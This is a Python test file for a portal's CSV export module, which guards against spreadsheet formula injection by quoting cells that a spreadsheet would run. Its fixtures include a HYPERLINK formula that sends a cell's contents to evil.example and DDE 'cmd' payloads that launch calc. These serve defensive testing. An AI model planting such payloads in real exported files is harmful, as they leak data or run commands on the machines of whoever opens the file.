"""CSV formula injection (OWASP): every CSV the portal writes goes through portal.csv_output, which puts a ' in
front of a cell a spreadsheet would run as a formula and leaves plain numbers (E.164, amounts) as they are."""
import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from portal.csv_output import csv_writer, safe_cell

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


@pytest.mark.parametrize(("cell", "written"), [
    (HYPERLINK, "'" + HYPERLINK),
    ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("+1 555 123 4567", "'+1 555 123 4567"),  # not a plain number: a spreadsheet may parse it, so it is text
    ("-", "'-"),
    ("+15551234567", "+15551234567"),  # E.164: only a number, harmless, kept for every program reading the file
    ("-1.50", "-1.50"),
    ("15551234567", "15551234567"),
    ("Alice =1", "Alice =1"),
    ("", ""),
    (None, None),
    (Decimal("-0.5500"), Decimal("-0.5500")),
    (-3, -3),
])
def test_a_cell_a_spreadsheet_would_run_gets_a_quote_and_numbers_stay(cell, written):
    assert safe_cell(cell) == written


@pytest.mark.parametrize(("row", "read_back"), [
    (["+15551234567", HYPERLINK, 'a "quote"', 7], ["+15551234567", "'" + HYPERLINK, 'a "quote"', "7"]),
    (["=1+1", "x"], ["'=1+1", "x"]),  # the first cell
    (["a,=b", "c"], ["a,=b", "c"]),  # a trigger after a comma inside a cell is not a cell's start
    (["x", "=a,b"], ["x", "'=a,b"]),  # a quoted cell that starts with a trigger
    (["x", "\r=1"], ["x", "'\r=1"]),
    (["2024-01-15T10:30:00Z", "-", "Lo-cal"], ["2024-01-15T10:30:00Z", "'-", "Lo-cal"]),
])
def test_the_writer_neutralises_every_cell_and_csv_quoting_still_applies(row, read_back):
    out = io.StringIO()
    csv_writer(out, lineterminator="\n").writerow(row)
    assert list(csv.reader(io.StringIO(out.getvalue(), newline=""))) == [read_back]


def test_the_writer_returns_what_the_target_returns_for_streaming():
    class Echo:
        def write(self, value):
            return value

    assert csv_writer(Echo(), lineterminator="\r\n").writerow(["@x", "+1"]) == "'@x,+1\r\n"


def test_no_module_writes_csv_but_through_portal_csv_output():
    root = Path(__file__).resolve().parents[2]
    writers = sorted(
        str(path.relative_to(root)) for app in ("portal", "billing", "provisioning", "voip", "payments", "api", "config")
        for path in (root / app).rglob("*.py")
        if ("csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text())
        and path.relative_to(root).as_posix() != "portal/csv_output.py"
    )
    assert writers == []


CELL_TEXT = st.text(alphabet="+-=@.,\"'\t\r\n; 0123456789aZ", max_size=8)


@settings(max_examples=400, deadline=None)
@given(rows=st.lists(st.lists(st.one_of(CELL_TEXT, st.integers(-500, 500), st.none()), max_size=6), max_size=4),
       lineterminator=st.sampled_from(["\n", "\r\n"]), delimiter=st.sampled_from([",", ";"]))
def test_the_fast_path_writes_exactly_what_the_cell_by_cell_pass_writes(rows, lineterminator, delimiter):
    """Whether or not a row looks suspect, the file is the one that safe_cell on every cell gives."""
    out, expected = io.StringIO(), io.StringIO()
    csv_writer(out, lineterminator=lineterminator, delimiter=delimiter).writerows(rows)
    plain = csv.writer(expected, lineterminator=lineterminator, delimiter=delimiter)
    for row in rows:
        plain.writerow([safe_cell(value) for value in row])
    assert out.getvalue() == expected.getvalue()
